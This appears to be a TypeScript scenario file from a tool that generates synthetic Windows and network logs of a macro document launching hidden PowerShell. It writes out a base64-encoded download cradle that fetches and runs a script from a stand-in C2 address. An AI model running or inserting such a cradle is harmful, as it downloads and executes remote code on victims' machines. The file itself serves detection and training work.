import { MINUTE, SECOND } from '../clock.ts';
import { IMAGES, explorerOf, spawn, userAccount } from '../sources/processes.ts';
import { scriptBlock4104 } from '../sources/security.ts';
import { personSubject } from '../sources/windows.ts';
import { networkConnect, processCreate } from '../sources/sysmon.ts';
import { connLine, tcpSession } from '../sources/zeek.ts';
import { Bundle } from '../types.ts';
import { VICTIMS } from '../world.ts';
import type { Scenario } from './scenario.ts';

const VICTIM = VICTIMS.powershell;
const C2 = '198.51.100.77';
/** The payload, and the `-enc` form PowerShell expects: base64 of its UTF-16LE bytes. */
export const DECODED_COMMAND = `IEX (New-Object Net.WebClient).DownloadString('http://${C2}/a.ps1')`;
export const ENCODED_COMMAND = Buffer.from(DECODED_COMMAND, 'utf16le').toString('base64');

/** Scenario 8: a macro document starts a hidden PowerShell with an encoded download cradle. */
export const encodedPowershell: Scenario = {
  id: 8,
  slug: 'encoded-powershell',
  name: 'Hidden PowerShell with a base64-encoded download cradle from a macro document',
  technique: 'T1059.001',
  techniques: ['T1059.001', 'T1027'],
  place: 0.47,
  duration: 5 * MINUTE,
  build({ rng, at }) {
    const bundle = new Bundle();
    const host = VICTIM.workstation;
    const account = userAccount(host, VICTIM);
    let t = at;
    const step = (min: number, max: number) => (t += rng.int(min, max));

    const word = spawn(rng, host, IMAGES.winword,
      `"${IMAGES.winword.path}" /n "C:\\Users\\${VICTIM.user}\\Downloads\\Invoice_88213.docm" /o ""`, account, `C:\\Users\\${VICTIM.user}\\Downloads\\`);
    bundle.win(t, processCreate(t, word, explorerOf(host, VICTIM)));
    const ps = spawn(rng, host, IMAGES.powershell, `powershell.exe -nop -w hidden -enc ${ENCODED_COMMAND}`, account,
      `C:\\Users\\${VICTIM.user}\\Documents\\`);
    step(8 * SECOND, 25 * SECOND);
    bundle.win(t, processCreate(t, ps, word));
    step(600_000, 1_500_000);
    bundle.win(t, scriptBlock4104(host, personSubject(VICTIM, account.logonId), DECODED_COMMAND, rng.guid().slice(1, -1), ps.pid));
    const port = rng.int(49_700, 60_000);
    step(200_000, 700_000);
    bundle.win(t, networkConnect(t, ps, port, C2, 80));
    bundle.add('conn', t, connLine(t, tcpSession(rng, { orig: host.ip, origPort: port, resp: C2, respPort: 80, service: 'http' },
      rng.int(600_000, 2_000_000), rng.int(180, 260), rng.int(40_000, 90_000))));
    return { bundle, sourceIps: [], destinationIps: [C2], users: [VICTIM.user], hosts: [host.name], markers: [VICTIM.user, C2] };
  },
};
